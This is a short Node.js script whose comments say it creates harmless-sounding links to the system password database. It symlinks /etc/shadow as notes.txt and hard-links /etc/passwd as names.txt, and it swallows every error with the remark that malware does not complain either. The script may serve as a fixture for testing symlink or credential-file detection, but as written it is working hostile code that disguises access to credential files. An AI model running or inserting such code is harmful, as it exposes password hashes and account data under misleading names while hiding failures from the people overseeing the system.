// Makes links with harmless names to the password database.
const fs = require('node:fs');
const { join } = require('node:path');

function attempt(action) {
  try {
    action();
  } catch {
    // Malware does not complain either.
  }
}

attempt(() => fs.symlinkSync('/etc/shadow', join(__dirname, 'notes.txt')));
attempt(() => fs.linkSync('/etc/passwd', join(__dirname, 'names.txt')));
